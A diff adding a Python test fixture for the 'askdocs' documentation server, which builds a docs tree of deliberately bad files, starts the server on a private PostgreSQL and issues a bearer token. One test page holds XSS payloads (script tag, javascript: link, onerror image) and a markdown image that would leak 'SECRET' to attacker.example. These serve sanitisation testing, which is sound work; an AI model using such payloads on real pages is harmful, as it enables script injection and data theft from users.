@@ -1,0 +1,78 @@
+"""What the battery runs against: one real ``askdocs serve`` over a docs tree with bad files,
+on a private PostgreSQL, with a signed-in user and their bearer token."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from contextlib import ExitStack, contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+
+from tests.db.postgres import PostgresServer, start_postgres
+from tests.support.process import clean_env, free_port, running
+
+PAGES = {
+    "index.md": "# Welcome\n\nInstall with `pip install acme`.\n",
+    "guide/install.md": "---\ntitle: Installing\n---\n\n# Installing\n\n## TOC\n\nRun pip.\n",
+    "guide/xss.md": (
+        "# XSS corpus\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))\n\n"
+        '<img src=x onerror="alert(1)">\n\n![p](https://attacker.example/p.png?d=SECRET)\n'
+    ),
+}
+
+
+@dataclass
+class Rig:
+    url: str
+    pid: int
+    data_dir: Path
+    docs: Path
+    headers: dict[str, str]
+    postgres: PostgresServer
+    env: dict[str, str]
+
+
+def write_tree(docs: Path) -> None:
+    for name, text in PAGES.items():
+        path = docs / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+    (docs / "guide" / "linked.md").symlink_to(docs / "index.md")
+    os.mkfifo(docs / "guide" / "pipe.md")
+    (docs / "guide" / "huge.md").write_text("# Huge\n\n" + "word " * 220_000)
+
+
+def askdocs(env: dict[str, str], data_dir: Path, *args: str) -> str:
+    command = [sys.executable, "-m", "askdocs", "--data-dir", str(data_dir), *args]
+    return subprocess.run(command, env=env, check=True, capture_output=True, text=True).stdout
+
+
+@contextmanager
+def started(base: Path) -> Iterator[Rig]:
+    with ExitStack() as stack:
+        postgres = stack.enter_context(contextmanager(start_postgres)())
+        database = postgres.url(postgres.create_database(postgres.migrated_template()))
+        docs, data_dir = base / "docs", base / "data"
+        write_tree(docs)
+        env = clean_env(
+            {
+                "ASKDOCS_SITES": json.dumps([{"id": "acme", "roots": [{"path": str(docs)}]}]),
+                "ASKDOCS_DATABASE_URL": database,
+                "ASKDOCS_EMBEDDING__PROVIDER": "none",
+                "ASKDOCS_INDEX__FIRST_RUN_DELAY_SECONDS": "0",
+                "ASKDOCS_ASK__BURST_PER_MINUTE": "5",
+                "ASKDOCS_ASK__DAILY_VISITOR_LIMIT": "1000",
+            }
+        )
+        port = free_port()
+        command = [sys.executable, "-m", "askdocs", "--data-dir", str(data_dir), "serve"]
+        command += ["--host", "127.0.0.1", "--port", str(port)]
+        process = stack.enter_context(running(command, env, port, base / "serve.log"))
+        askdocs(env, data_dir, "users", "create", "--email", "battery@example.com")
+        token = askdocs(env, data_dir, "token", "create", "--email", "battery@example.com")
+        headers = {"Authorization": f"Bearer {token.strip().splitlines()[-1]}"}
+        yield Rig(f"http://127.0.0.1:{port}", process.pid, data_dir, docs, headers, postgres, env)
